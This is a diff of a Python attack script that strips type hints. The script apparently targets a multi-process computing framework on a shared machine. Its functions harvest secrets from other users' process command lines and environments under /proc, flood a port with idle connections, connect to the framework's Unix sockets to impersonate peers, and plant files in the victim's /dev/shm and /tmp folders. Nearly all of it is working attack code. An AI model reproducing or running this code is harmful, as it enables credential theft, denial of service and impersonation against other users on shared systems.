@@ -6,8 +6,6 @@ launch lines of processes of the user that is its argument, and forges, floods, 
 Prints what it found and what it achieved.
 """
 
-from __future__ import annotations
-
 import json
 import os
 import re
@@ -27,12 +25,12 @@ HELLO, WELCOME, BUNDLE, PROOF, PRESENT = 1, 2, 9, 12, 64
 BOOT = Path("/proc/sys/kernel/random/boot_id").read_text()[:8]
 MOST_IDLE = 1000
 
-found: dict[str, set[str]] = {name: set() for name in ("ports", "sockets", "secrets", "runs")}
+found = {name: set() for name in ("ports", "sockets", "secrets", "runs")}
 achieved = {"greeted": 0, "written": 0, "told": 0}
-idle: list[socket.socket] = []
+idle = []
 
 
-def look_at_lines() -> None:
+def look_at_lines():
     """Secrets and names in launch lines, which everybody can read; environments, too."""
     for process in Path("/proc").glob("[0-9]*"):
         with suppress(OSError):
@@ -48,7 +46,7 @@ def look_at_lines() -> None:
             achieved["told"] += 1
 
 
-def attack(where: tuple[str, int]) -> None:
+def attack(where):
     """Crowd a port with idle connections, then greet in words that one without the key can have."""
     for _ in range(200):
         with suppress(OSError):
@@ -70,7 +68,7 @@ def attack(where: tuple[str, int]) -> None:
         idle.pop(0).close()
 
 
-def meet() -> None:
+def meet():
     """Speak to the sockets at which ranks of a node meet, and take names like theirs."""
     for line in Path("/proc/net/unix").read_text().splitlines():
         name = line.rpartition(" ")[2]
@@ -83,7 +81,7 @@ def meet() -> None:
             peer.sendall(HEADER.pack(PRESENT, 0, 4) + b"0 0\n")
 
 
-def plant() -> None:
+def plant():
     """Write into the victim's folders, and take the names of those that come."""
     for place in map(Path, ("/dev/shm", "/tmp")):
         for run in found["runs"]:
@@ -96,11 +94,11 @@ def plant() -> None:
                     achieved["written"] += 1
 
 
-def main() -> None:
+def main():
     """Go on until nobody listens any more."""
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
-    known: set[str] = set()
+    known = set()
     end = time.monotonic() + (LASTS_S or 0)
     print("begun", flush=True)
     while time.monotonic() < end or (
